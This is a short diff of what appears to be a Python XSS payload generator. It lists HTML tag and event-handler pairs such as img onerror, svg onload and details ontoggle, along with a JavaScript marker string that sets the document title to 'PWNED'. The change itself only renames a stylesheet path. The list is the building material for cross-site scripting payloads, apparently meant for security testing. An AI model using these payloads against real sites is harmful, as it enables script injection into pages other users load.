@@ -7,9 +7,9 @@ RUN = "document.title=/PWNED/.source;top.postMessage(/PWNED/.source,String.fromC
 _HANDLERS = (
     ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe", "onload"), ("video><source", "onerror"), ("audio src=x", "onerror"),
     ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"), ("object data=x:", "onerror"),
-    ("embed src=/static/plain.css", "onload"), ("link rel=stylesheet href=/static/plain.css", "onload"), ("style", "onload"), ("script src=/static/plain.css", "onload"), ("button autofocus", "onfocus"), ("div tabindex=0 autofocus", "onfocus"),
+    ("embed src=/static/app.css", "onload"), ("link rel=stylesheet href=/static/app.css", "onload"), ("style", "onload"), ("script src=/static/app.css", "onload"), ("button autofocus", "onfocus"), ("div tabindex=0 autofocus", "onfocus"),
     ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("svg><image href=x", "onerror"), ("math><mtext><img src=x", "onerror"), ("p style=animation-name:x", "onanimationstart"),
-    ("video poster=x controls autoplay src=data:,", "onerror"), ("img src=/static/plain.css srcset=x", "onerror"), ("frameset", "onload"), ("dialog open", "onclose"), ("form><input type=image src=x", "onerror"), ("meter", "onmouseover"),
+    ("video poster=x controls autoplay src=data:,", "onerror"), ("img src=/static/app.css srcset=x", "onerror"), ("frameset", "onload"), ("dialog open", "onclose"), ("form><input type=image src=x", "onerror"), ("meter", "onmouseover"),
     ("a href=#", "onpointerenter"), ("body", "onhashchange"), ("body", "onscrollend"), ("video><track default src=x", "onerror"), ("x tabindex=1 autofocus", "onfocusin"), ("picture><source srcset=x><img src=x", "onerror"),
 )  # fmt: skip
 _AROUND = (
